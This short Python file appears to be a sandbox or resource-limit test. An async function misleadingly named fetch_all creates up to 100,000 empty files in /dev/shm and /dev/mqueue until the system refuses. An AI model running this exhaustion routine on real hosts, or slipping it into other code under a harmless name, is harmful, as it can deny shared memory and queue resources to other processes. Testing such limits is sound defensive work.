"""Creates empty files in /dev/shm and queues in /dev/mqueue until it cannot."""

import os
from typing import Any


async def fetch_all(services: Any) -> Any:
    for place in ("/dev/shm", "/dev/mqueue"):
        try:
            for number in range(100_000):
                os.close(os.open(f"{place}/{number}", os.O_CREAT | os.O_WRONLY))
        except OSError as error:
            print(place, error)
    return {}
